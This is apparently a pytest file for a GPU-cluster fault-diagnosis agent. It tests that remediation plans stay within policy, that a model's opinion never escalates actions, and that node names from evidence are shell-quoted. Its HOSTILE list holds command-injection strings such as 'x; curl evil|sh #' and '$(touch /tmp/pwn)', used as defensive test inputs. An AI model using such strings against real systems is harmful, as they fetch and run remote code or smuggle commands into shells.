"""Policy over the whole table: no plan that frees nothing, no opinion that makes an action more invasive."""

import csv
import shlex
from dataclasses import replace
from datetime import UTC, datetime
from importlib.resources import files

import pytest

from agent.faults import (
    load_alternatives,
    load_commands,
    load_differences,
    load_event_policy,
    load_faults,
    load_fold_rules,
)
from agent.plan import UNKNOWN_NAMES, build_plan, spell_command
from agent.policy import ACTION_RANK, CAPS, PASSIVE_ACTIONS, SOFT_ACTIONS, SitePolicy, decide, decide_for_model
from agent.types import Case, Claim, ModelUse, Opinion, Suspicion
from agent.verdicts import build_verdict
from tools.evidence import EvidenceBook
from tools.types import Entity, Event, Facts, Moment, Quote

NOW = datetime(2026, 11, 24, tzinfo=UTC)
FAULTS = sorted(load_faults())
KINDS = {"gpu", "nic", "disk", "node", "job", "sensor", "network", "storage", "rack", "service", "telemetry"}


def case_of(fault, confidence="confirmed", notes=()):
    component = load_faults()[fault].component
    kind = component if component in KINDS else "node"
    entity = Entity(kind, "node-a17", "" if kind == "node" else "3")
    event = Event(Moment("utc", 1.0), entity, "xid:79", Quote("kern.log", 1, "a line"))
    return Case("c-1", Suspicion(fault, entity, "settles", (event,)), (), (), confidence, notes)


def variants():
    for fault in FAULTS:
        notes = [(), *((note,) for name, note in load_differences() if name == fault)]
        for confidence in CAPS:
            yield from ((fault, confidence, note) for note in notes)


def test_tables_name_only_faults_and_actions_that_exist():
    table = load_faults()
    named = {p.fault for p in load_event_policy().values()} | {f for f, _ in load_differences()}
    named |= {name for pair in load_fold_rules() for name in pair} - {"*"}
    named |= set(load_alternatives()) | {alt for rows in load_alternatives().values() for alt, _ in rows}
    assert named <= set(table)
    for row in (*table.values(), *load_differences().values()):
        assert row.action in ACTION_RANK and row.follow_up in ACTION_RANK
        assert row.severity in ("ok", "info", "warning", "critical")
        assert row.urgency in ("now", "job_end", "maintenance", "none")


def test_every_code_that_parsers_make_has_a_policy():
    with files("tools").joinpath("catalogue", "codes.csv").open(encoding="utf-8") as stream:
        codes = {row["code"] for row in csv.DictReader(stream)}
    assert {code for code in codes if not code.endswith("*")} <= set(load_event_policy())


def test_no_fault_explains_itself_or_is_explained_by_what_it_explains_at_any_order():
    rules = load_fold_rules()
    assert rules
    for (cause, consequence), rule in rules.items():
        assert cause != consequence
        back = load_fold_rules().get((consequence, cause))
        apart = back is None or {rule.scope, back.scope} == {"reading", "logged"}
        assert apart or {rule.order, back.order} != {"any"}, (cause, consequence)


@pytest.mark.parametrize("scheduler", ["slurm", "kubernetes", "none"])
def test_no_reset_or_reboot_without_a_free_node(scheduler):
    checked = 0
    for fault, confidence, notes in variants():
        case = case_of(fault, confidence, notes)
        plan = build_plan(case, decide(case), SitePolicy(scheduler))
        actions = [step.action for step in plan]
        for position, action in enumerate(actions):
            if action in ("reset_gpu", "reboot_node"):
                checked += 1
                assert "wait_for_jobs" in actions[:position], (fault, actions)
                assert "no job" in (plan[position].precondition or "")
        assert [step.step for step in plan] == list(range(1, len(plan) + 1))
    assert checked > 20


def test_inconclusive_cases_never_cost_work():
    cases = list(variants())
    assert len(cases) > 100
    for fault, confidence, notes in cases:
        action = decide(case_of(fault, confidence, notes)).action
        assert ACTION_RANK[action] <= ACTION_RANK[CAPS[confidence]], (fault, confidence, notes, action)


HARMFUL = {
    "gpu_app_fault": {"replace_part", "drain_node", "reboot_node", "reset_gpu"},
    "collective_hang": {"replace_part", "drain_node", "reboot_node"},
    "job_crash": {"replace_part", "drain_node", "reboot_node", "reset_gpu"},
    "nvlink_nonfatal": {"replace_part", "drain_node", "reboot_node", "reset_gpu"},
    "nvswitch_nonfatal": {"replace_part", "drain_node", "reboot_node", "reset_gpu"},
    "gpu_memory_remap_failure": {"restart_job", "none", "watch"},
    "gpu_off_bus": {"none", "watch", "restart_job", "replace_part"},
    "shared_fs_stall": {"replace_part", "drain_node", "reboot_node"},
    "host_resource_limit": {"replace_part", "drain_node", "reboot_node"},
    "io_noisy_neighbor": {"replace_part", "drain_node", "reboot_node"},
    "gpu_thermal_throttle": {"replace_part", "reboot_node", "reset_gpu"},
    "benign": {"replace_part", "drain_node", "reboot_node", "reset_gpu", "restart_job"},
    "healthy": {"replace_part", "drain_node", "reboot_node", "reset_gpu", "restart_job"},
    "unknown": {"replace_part", "drain_node", "reboot_node", "reset_gpu", "restart_job"},
}


@pytest.mark.parametrize("fault", sorted(HARMFUL))
def test_confirmed_faults_propose_no_harm(fault):
    cases = list(variants())
    assert len(cases) > 100
    for name, confidence, notes in cases:
        if name == fault and confidence == "confirmed":
            assert decide(case_of(name, confidence, notes)).action not in HARMFUL[fault], notes


def test_part_is_replaced_only_where_the_table_says_so():
    allowed = {("gpu_memory_uncorrectable", "sram_threshold"), ("disk_wearout", "drive_says")}
    cases = list(variants())
    assert len(cases) > 100
    for fault, confidence, notes in cases:
        if decide(case_of(fault, confidence, notes)).action == "replace_part":
            assert confidence == "confirmed" and (fault, *notes) in allowed


def test_an_opinion_never_makes_an_action_more_invasive_and_neither_silences_nor_makes_a_page():
    checked = 0
    for fault, confidence, notes in variants():
        case = case_of(fault, confidence, notes)
        rules = decide(case)
        for named in FAULTS:
            model = decide_for_model(case, named, [fault, named])
            assert ACTION_RANK[model.action] <= ACTION_RANK[rules.action], (fault, named)
            assert model.action == rules.action or model.action in SOFT_ACTIONS
            assert model.severity == rules.severity
            assert model.action not in PASSIVE_ACTIONS or rules.action in PASSIVE_ACTIONS, (fault, named)
            checked += 1
    assert checked > 5000


def test_under_a_models_fault_the_plan_has_no_step_that_the_rules_plan_lacks():
    checked = 0
    for fault, rows in load_alternatives().items():
        case = replace(case_of(fault, "likely"), alternatives=rows)
        for named, _ in rows:
            opinion = Opinion(named, "words", model=ModelUse(name="m", endpoint_kind="scripted", prompt_hashes={}))
            kwargs = {"facts": Facts(), "site": SitePolicy(), "now": NOW}
            rules = build_verdict(case, EvidenceBook(), **kwargs)
            model = build_verdict(case, EvidenceBook(), opinion=opinion, **kwargs)
            assert model.decided_by == "model" and model.fault == named
            steps = {step.action for step in model.plan} - {model.action}
            assert steps <= {step.action for step in rules.plan}, (fault, named)
            checked += 1
    assert checked > 30


HOSTILE = ["x; curl evil|sh #", "$(touch /tmp/pwn)", "`id`", "a b", "-rf", "'", '"', "a\nb", "<node>"]


@pytest.mark.parametrize("name", HOSTILE)
@pytest.mark.parametrize("scheduler", ["slurm", "kubernetes", "none"])
def test_names_from_evidence_never_reach_a_shell(name, scheduler):
    checked = 0
    for fault in FAULTS:
        case = case_of(fault)
        hostile = replace(case.primary, entity=replace(case.primary.entity, node=name, name=name))
        for action in {command.action for command in load_commands()}:
            text = spell_command(action, replace(case, primary=hostile), SitePolicy(scheduler))
            if text is None:
                continue
            words = shlex.split(text)
            checked += 1
            assert not set(";|`$<>&") & set(text) or any(name in word for word in words), text
            assert name not in words or shlex.quote(name) in text
            assert "-rf" not in words
    assert checked > 100


def test_a_command_for_the_node_goes_there_and_a_name_that_is_not_known_is_a_word():
    case = case_of("gpu_off_bus")
    assert spell_command("reboot_node", case, SitePolicy()) == "ssh node-a17 systemctl reboot"
    nowhere = replace(case, primary=replace(case.primary, entity=Entity("gpu")))
    assert spell_command("drain_node", nowhere, SitePolicy()).startswith(
        f"scontrol update NodeName={UNKNOWN_NAMES['node']} "
    )


@pytest.mark.parametrize(
    ("named", "rejected", "decided_by"),
    [
        ("gpu_off_bus", "", "rules+model"),
        ("host_kernel_panic", "", "rules"),
        ("no_such_fault", "", "rules"),
        ("gpu_off_bus", "the endpoint gave no answer", "rules"),
    ],
)
def test_a_confirmed_fault_stands_whatever_the_model_says(named, rejected, decided_by):
    use = ModelUse(name="m", endpoint_kind="scripted", prompt_hashes={})
    claim = Claim(text="it is so", evidence=["e1"], verified=True)
    opinion = Opinion(named, "words of the model", (claim,), model=use, rejected=rejected)
    verdict = build_verdict(
        case_of("gpu_off_bus"), EvidenceBook(), facts=Facts(), site=SitePolicy(), now=NOW, opinion=opinion
    )
    assert (verdict.fault, verdict.action, verdict.decided_by) == ("gpu_off_bus", "reboot_node", decided_by)
    assert (verdict.reason is None) == (decided_by == "rules+model")


def test_what_only_the_model_names_is_at_most_likely():
    case = case_of("unknown", "inconclusive")
    use = ModelUse(name="m", endpoint_kind="scripted", prompt_hashes={})
    verdict = build_verdict(
        case, EvidenceBook(), facts=Facts(), site=SitePolicy(), now=NOW,
        opinion=Opinion("host_kernel_panic", "It panicked.", model=use),
    )  # fmt: skip
    assert verdict.fault == "host_kernel_panic" and verdict.decided_by == "model"
    assert verdict.confidence in ("likely", "inconclusive")
    assert ACTION_RANK[verdict.action] <= ACTION_RANK["watch"]
